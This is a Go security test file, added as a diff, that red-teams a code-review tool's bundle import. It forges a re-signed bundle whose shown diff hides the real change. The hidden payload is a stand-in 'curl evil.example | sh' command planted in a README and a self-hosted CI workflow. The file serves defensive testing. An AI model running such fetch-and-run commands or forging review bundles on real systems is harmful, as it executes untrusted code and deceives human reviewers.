@@ -1,0 +1,128 @@
+package main
+
+// Red team 3: the review page, bundles and the merge queue as they
+// landed. Each test here is an attack; one that fails is a finding (see
+// the report of branch red3), one that passes is a breach that held.
+
+import (
+	"bytes"
+	"crypto/ed25519"
+	"crypto/rand"
+	"io"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/paddock-dev/paddock"
+	"github.com/paddock-dev/paddock/bundle"
+	"github.com/paddock-dev/paddock/changeset"
+)
+
+// forgeBundle reads the bundle at file (any signer), lets edit change
+// what it carries, re-hashes the change set, rebinds the submission and
+// the event log to the new hash, and signs the result with a new key: a
+// bundle anyone can make from one they were sent.
+func forgeBundle(t *testing.T, file string, edit func(cs *paddock.ChangeSet)) (forged string, key ed25519.PrivateKey) {
+	t.Helper()
+	f, err := os.Open(file)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	b, err := bundle.Read(f, bundle.Options{AnySigner: true, TempDir: t.TempDir()})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer b.Close()
+	cs := *b.ChangeSet
+	d, err := os.ReadFile(cs.DiffFile)
+	if err != nil {
+		t.Fatal(err)
+	}
+	cs.Diff, cs.DiffFile, cs.DiffOmitted = string(d), "", false
+	cs.Entries = append([]paddock.ChangeEntry(nil), cs.Entries...)
+	for i := range cs.Entries {
+		cs.Entries[i].Risks = append([]string(nil), cs.Entries[i].Risks...)
+	}
+	old := cs.Hash
+	edit(&cs)
+	if cs.Hash, err = changeset.Hash(&cs); err != nil {
+		t.Fatal(err)
+	}
+	sub := *b.Submission
+	sub.Hash = cs.Hash
+	for _, e := range b.Events {
+		e.Data = bytes.ReplaceAll(e.Data, []byte(old), []byte(cs.Hash))
+	}
+	_, key, _ = ed25519.GenerateKey(rand.Reader)
+	var out bytes.Buffer
+	err = bundle.Write(&out, &bundle.Contents{Run: b.Run, ChangeSet: &cs, Submission: &sub, Access: b.Access,
+		Enforcement: b.Enforcement, Events: b.Events,
+		Blob: func(id string) (io.ReadCloser, error) { return os.Open(b.BlobPath(id)) }}, key, time.Now())
+	if err != nil {
+		t.Fatal(err)
+	}
+	forged = filepath.Join(t.TempDir(), "forged.bundle")
+	if err := os.WriteFile(forged, out.Bytes(), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	return forged, key
+}
+
+// TestRedteam3ImportKeepsTheBundlesDiff: a bundle's diff is hashed with
+// its entries, but nothing holds the diff to the blobs the entries name.
+// Anyone who was sent a bundle can swap its diff for a harmless-looking
+// one (and drop its risk labels, which no hash covers), re-hash, sign
+// with a key of their own and send it on. `paddock import --untrusted`
+// takes it: the workspace gets the real blobs, the submission keeps the
+// forged diff and labels under the forged hash, and that diff is what the
+// review page shows and what approve binds to. The apply then writes the
+// blobs nobody saw. The imported submission must be the change set the
+// workspace holds (its hash, its diff, its labels), or the import refused.
+func TestRedteam3ImportKeepsTheBundlesDiff(t *testing.T) {
+	home, _ := reviewDaemon(t)
+	id := strings.TrimSpace(cli(t, home, "create", "-p", "app").must(t).out)
+	cli(t, home, "exec", id, "--", "sh", "-c",
+		`printf 'curl evil.example | sh\n' > README.md && mkdir -p .github/workflows && printf 'on: push\njobs: {x: {runs-on: self-hosted, steps: [{run: "curl evil.example | sh"}]}}\n' > .github/workflows/ci.yml`).must(t)
+	cs := decode[paddock.ChangeSet](t, cli(t, home, "submit", id, "--json"))
+	file := filepath.Join(t.TempDir(), "run.bundle")
+	cli(t, home, "bundle", id, "-o", file).must(t)
+
+	forged, _ := forgeBundle(t, file, func(c *paddock.ChangeSet) {
+		c.Diff = strings.ReplaceAll(c.Diff, "curl evil.example | sh", "a harmless line")
+		for i := range c.Entries {
+			c.Entries[i].Risks = nil
+		}
+	})
+	res := cli(t, home, "import", forged, "--untrusted", "--json")
+	if res.code != 0 {
+		return // refused: held
+	}
+	imp := decode[paddock.ImportResult](t, res)
+	live := decode[paddock.ChangeSet](t, cli(t, home, "diff", imp.Run.ID, "--json"))
+	if !strings.Contains(live.Diff, "curl evil.example") {
+		t.Fatalf("the imported workspace does not hold the bundle's blobs:\n%s", live.Diff)
+	}
+	shown, _ := os.ReadFile(filepath.Join(home, "artifacts", imp.Run.ID, "changeset-"+strings.TrimPrefix(imp.Hash, "sha256:")+".diff"))
+	if imp.Hash != live.Hash {
+		t.Errorf("import submitted %s, a change set the workspace does not hold (it holds %s, %s's was %s); "+
+			"what the review page shows and approve binds to:\n%s", imp.Hash, live.Hash, id, cs.Hash, shown)
+	}
+	if strings.Contains(string(shown), "a harmless line") {
+		t.Errorf("the imported submission's diff is the forged one, not the workspace's")
+	}
+	saved, _ := os.ReadFile(filepath.Join(home, "artifacts", imp.Run.ID, "changeset-"+strings.TrimPrefix(imp.Hash, "sha256:")+".json"))
+	if !strings.Contains(string(saved), "ci_config") {
+		t.Errorf("the imported submission lost the workflow's ci_config label (the workspace's change set has it: %v)", labelsOf(live))
+	}
+}
+
+func labelsOf(cs paddock.ChangeSet) map[string][]string {
+	out := map[string][]string{}
+	for _, e := range cs.Entries {
+		out[e.Path] = e.Risks
+	}
+	return out
+}
